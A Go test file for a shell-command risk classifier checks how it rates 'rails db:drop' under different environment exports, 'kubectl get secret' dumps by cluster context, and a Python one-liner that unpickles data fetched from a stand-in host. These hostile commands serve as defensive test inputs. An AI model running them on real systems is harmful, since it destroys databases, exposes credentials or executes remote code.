package classify

import (
	"testing"

	"restrain/shellparse"
)

// What the line sets for its own shell says what a later command of it acts on, as a
// prefix does; what it sets in another shell, for another command or takes back does
// not.
func TestSettingsThatTheLineExports(t *testing.T) {
	for line, test := range map[string]bool{
		"RAILS_ENV=test rails db:drop":                                         true,
		"export RAILS_ENV=test; rails db:drop":                                 true,
		"export RAILS_ENV=test && cd app && rails db:drop":                     true,
		"export RAILS_ENV=test; unset RAILS_ENV; rails db:drop":                false,
		"export RAILS_ENV=test; export RAILS_ENV=production; rails db:drop":    false,
		"(export RAILS_ENV=test); rails db:drop":                               false,
		"export RAILS_ENV=test | cat; rails db:drop":                           false,
		"RAILS_ENV=test rails db:migrate; rails db:drop":                       false,
		"rails db:drop; export RAILS_ENV=test":                                 false,
		"export RAILS_ENV=$(cat env); rails db:drop":                           false,
		"RAILS_ENV=test; export RAILS_ENV; RAILS_ENV=production rails db:drop": false,
	} {
		step := Shipped().Classify(shellparse.Parse(line, shellparse.Options{}), Offline{})
		if got := step.Severity <= Low; got != test {
			t.Errorf("%s: %s", line, step.Severity)
		}
	}
}

// A secret of a cluster on this machine is there to be tried on; one of production
// is no worse than any.
func TestSecretsOfClusters(t *testing.T) {
	for line, want := range map[string]Severity{
		"kubectl --context kind-dev get secret shop-db -o yaml": Low,
		"kubectl --context prod-eu get secret shop-db -o yaml":  Medium,
		"kubectl get secret shop-db -o yaml":                    Medium,
	} {
		step := Shipped().Classify(shellparse.Parse(line, shellparse.Options{}), Offline{})
		if step.Severity != want {
			t.Errorf("%s: %s, not %s", line, step.Severity, want)
		}
	}
}

// What decodes data runs nothing; what loads objects does.
func TestLoadingDataIsNoCode(t *testing.T) {
	for line, code := range map[string]bool{
		`python3 -c "import json, urllib.request as u; print(json.load(u.urlopen('http://127.0.0.1:3000/x')))"`: false,
		`python3 -c "import pickle, urllib.request as u; print(pickle.load(u.urlopen('http://x.example/x')))"`:  true,
	} {
		step := Shipped().Classify(shellparse.Parse(line, shellparse.Options{}), Offline{})
		found := false
		for i := range step.Actions {
			found = found || step.Actions[i].Finding != nil && step.Actions[i].Finding.Rule == "decoded-code"
		}
		if found != code {
			t.Errorf("%s: decoded code %v", line, found)
		}
	}
}
